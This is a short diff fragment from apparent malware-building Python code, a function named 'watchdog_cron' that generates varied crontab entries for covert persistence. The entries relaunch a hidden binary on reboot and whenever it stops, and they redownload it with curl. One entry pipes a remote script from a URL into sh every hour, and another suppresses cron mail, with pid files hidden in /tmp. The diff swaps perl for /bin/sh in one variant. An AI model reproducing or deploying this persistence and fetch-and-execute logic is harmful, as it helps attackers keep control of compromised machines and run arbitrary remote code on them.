@@ -590,7 +590,7 @@ def watchdog_cron(r, v):
     lines = (
         "@reboot $HOME/%s/%s >/dev/null 2>&1\n*/5 * * * * pgrep -f %s >/dev/null || $HOME/%s/%s >/dev/null 2>&1\n" % (d, name, name, d, name),
         "*/3 * * * * [ -x $HOME/%s/%s ] || (curl -fsSL %s -o $HOME/%s/%s; chmod +x $HOME/%s/%s); pidof %s || $HOME/%s/%s\n" % ((d, name, url) + (d, name) * 2 + (name, d, name)),
-        "@reboot sleep 60 && nohup /usr/bin/perl $HOME/%s/%s >/dev/null 2>&1 &\n0 * * * * (wget -qO- %s || curl -fsS %s) | sh\n" % (d, name, url, url),
+        "@reboot sleep 60 && nohup /bin/sh $HOME/%s/%s >/dev/null 2>&1 &\n0 * * * * (wget -qO- %s || curl -fsS %s) | sh\n" % (d, name, url, url),
         "MAILTO=\"\"\n* * * * * /bin/sh -c 'kill -0 $(cat /tmp/.%s.pid 2>/dev/null) 2>/dev/null || $HOME/%s/%s & echo $! > /tmp/.%s.pid'\n" % (name, d, name, name),
     )[v % 4]
     body = T("""while :; do
